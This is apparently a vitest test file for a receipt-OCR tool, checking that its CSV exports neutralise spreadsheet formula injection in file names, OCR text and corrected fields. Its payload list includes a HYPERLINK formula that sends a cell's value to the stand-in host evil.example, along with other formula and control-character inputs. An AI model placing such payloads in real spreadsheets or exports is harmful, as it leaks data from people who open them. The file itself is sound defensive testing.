/**
 * Formula-safe CSV (issue 40, item 1): every cell that a spreadsheet would run as a formula, in
 * both CSV exports, written with a file name and a corrected concept an attacker chose, then
 * read back with a CSV parser.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { ImageRecord } from '../../src-shared/receipt/record';
import { createWriter } from '../cli/output';
import { openDatabase } from '../db/open';
import { insertReceipt } from '../db/receipts';
import { saveResult } from '../db/results';
import { correctField } from '../db/review';
import { exportRows } from '../db/export-rows';
import { csvExport } from './export';

/** Each payload, and the text it must read back as once the `'` is taken off. */
const PAYLOADS: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?x="&A1,"Ver")', '=HYPERLINK("http://evil.example/?x="&A1,"Ver")'],
  ['+SUM(1,2)', '+SUM(1,2)'],
  ['@SUM(1)', '@SUM(1)'],
  ['-2+3', '-2+3'],
  ['\t=1+1', '\t=1+1'],
  ['\r=1+1', '\n=1+1'],
  ['＝1+1', '＝1+1'],
  ['\u0007=1+1', '=1+1'],
  ['pago \u001b[31mrojo\u001b[0m', 'pago [31mrojo[0m'],
];
const FORMULA_START = /^[=+\-@\t\r＝]/;
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/;

function expectInert(cells: string[], payload: string, expected: string) {
  for (const cell of cells) {
    expect(cell, JSON.stringify(payload)).not.toMatch(FORMULA_START);
    expect(cell, JSON.stringify(payload)).not.toMatch(CONTROL);
  }
  expect(cells.map((c) => c.replace(/^'/, ''))).toContain(expected);
}

describe('CSV exports never hold a live formula', () => {
  it('the window and `receipt-ocr export`: file names and corrected fields', () => {
    const db = openDatabase(':memory:').db;
    const run = { profile: 'balanced', models: [{ id: 'det', sha256: 'x' }], rulesRevision: 'r', finishedAt: '2026-12-07T09:00:01.000Z' };
    PAYLOADS.forEach(([payload], i) => {
      const id = insertReceipt(db, {
        sha256: i.toString(16).padStart(64, '0'), originalName: `${payload}.png`, ext: 'png', sizeBytes: 10,
        receivedAt: '2026-12-07T09:00:00.000Z', expiresAt: '2026-12-08T09:00:00.000Z', metadata: '{}',
      });
      const record: ImageRecord = {
        file: 'x', sha256: 'x', status: 'ok', text: payload, lines: [], metadata: {},
        fields: { concepto: { value: 'pago', raw: 'pago', confidence: 0.9, box: [0, 0, 1, 1], source: { via: 'inline' } } },
      };
      saveResult(db, id, record, run);
      correctField(db, id, 'concepto', payload, new Date('2026-12-07T09:00:01.000Z'));
    });
    for (const delimiter of [',', ';'] as const) {
      const rows = parse(csvExport(exportRows(db), delimiter), { bom: true, columns: true, delimiter }) as Record<string, string>[];
      expect(rows).toHaveLength(PAYLOADS.length);
      rows.forEach((row, i) => {
        const [payload, expected] = PAYLOADS[i]!;
        expectInert(Object.values(row), payload, expected);
        expect(row.file!.replace(/^'/, '')).toBe(`${expected}.png`);
      });
    }
  });

  it('`extract --format csv`: the file name and the text read from the image', () => {
    const writer = createWriter('csv');
    const records = PAYLOADS.map(([payload]): ImageRecord => ({ file: payload, sha256: null, status: 'ok', text: payload, lines: [], metadata: {}, fields: {} }));
    const rows = parse(records.map((r) => writer.add(r)).join('') + writer.finish(), { bom: true, columns: true }) as Record<string, string>[];
    rows.forEach((row, i) => {
      const [payload, expected] = PAYLOADS[i]!;
      expectInert(Object.values(row), payload, expected);
      expect(row.text!.replace(/^'/, '')).toBe(expected);
    });
  });

  it('leaves ordinary cells alone, numbers included', () => {
    const text = createWriter('csv').add({ file: 'pago móvil 1.250,75.png', sha256: null, status: 'ok', text: 'Monto\n1.250,75', lines: [], metadata: {}, fields: {} });
    const row = (parse(text, { bom: true, columns: true }) as Record<string, string>[])[0]!;
    expect(row).toMatchObject({ file: 'pago móvil 1.250,75.png', text: 'Monto\n1.250,75' });
  });
});
